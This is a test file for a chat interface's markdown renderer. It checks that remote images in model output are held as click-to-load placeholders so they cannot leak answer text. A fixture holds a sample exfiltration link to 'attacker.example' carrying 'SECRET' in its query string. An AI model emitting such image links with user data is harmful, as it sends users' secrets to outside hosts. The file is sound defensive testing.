// Remote images in model output are never fetched by themselves (audit F11): a fetch can
// carry answer text to whoever the model names. A click on the placeholder loads one.
import { describe, expect, it } from "vitest";
import { IncrementalMarkdown, renderMarkdown } from "./markdown";

function rendered(markdown: string): HTMLElement {
  const holder = document.createElement("div");
  holder.append(renderMarkdown(markdown));
  return holder;
}

describe("remote images", () => {
  it("become a placeholder with the alt text, the URL as text and a load button", () => {
    const url = "https://attacker.example/p.png?d=SECRET";
    const holder = rendered(`Status: ![status](${url})`);
    expect(holder.querySelector("img")).toBeNull();
    expect(holder.innerHTML).not.toContain("<img");
    const placeholder = holder.querySelector(".streamchat-remote-image")!;
    expect(placeholder.textContent).toContain("status");
    expect(placeholder.querySelector(".streamchat-remote-image-url")!.textContent).toBe(url);
    const button = placeholder.querySelector("button")!;
    expect(button.type).toBe("button");
    expect(button.textContent).toBe("Load image");
  });

  it("load only on click, once, in place of the placeholder", () => {
    const holder = rendered("![chart](https://example.com/c.png \"Chart\")");
    holder.querySelector<HTMLButtonElement>(".streamchat-remote-image button")!.click();
    const images = holder.querySelectorAll("img");
    expect(images.length).toBe(1);
    expect(images[0].getAttribute("src")).toBe("https://example.com/c.png");
    expect(images[0].alt).toBe("chart");
    expect(holder.querySelector(".streamchat-remote-image")).toBeNull();
  });

  it("stay loaded when the streaming tail is rendered again", () => {
    const container = document.createElement("div");
    const md = new IncrementalMarkdown(container);
    md.append("See ![a](https://example.com/a.png) and");
    md.render();
    container.querySelector<HTMLButtonElement>(".streamchat-remote-image button")!.click();
    md.append(" more");
    md.render();
    md.render(true);
    expect(container.querySelector("img")!.getAttribute("src")).toBe("https://example.com/a.png");
  });

  it.each([
    ["relative", "![a](images/a.png)"],
    ["protocol-relative", "![a](//example.com/a.png)"],
    ["in a link", "[![a](https://example.com/b.svg)](https://example.com/)"],
  ])("are placeholders when %s", (_name, markdown) => {
    const holder = rendered(markdown);
    expect(holder.querySelector("img")).toBeNull();
    expect(holder.querySelector(".streamchat-remote-image button")).not.toBeNull();
  });

  it("keep inline data:image images", () => {
    const img = rendered("![dot](data:image/png;base64,iVBORw0KGgo=)").querySelector("img")!;
    expect(img.getAttribute("src")).toBe("data:image/png;base64,iVBORw0KGgo=");
  });

  it("of other schemes keep only their alt text", () => {
    const holder = rendered("![old](ftp://example.com/a.png)");
    expect(holder.querySelector("img, .streamchat-remote-image")).toBeNull();
    expect(holder.textContent!.trim()).toBe("old");
  });
});
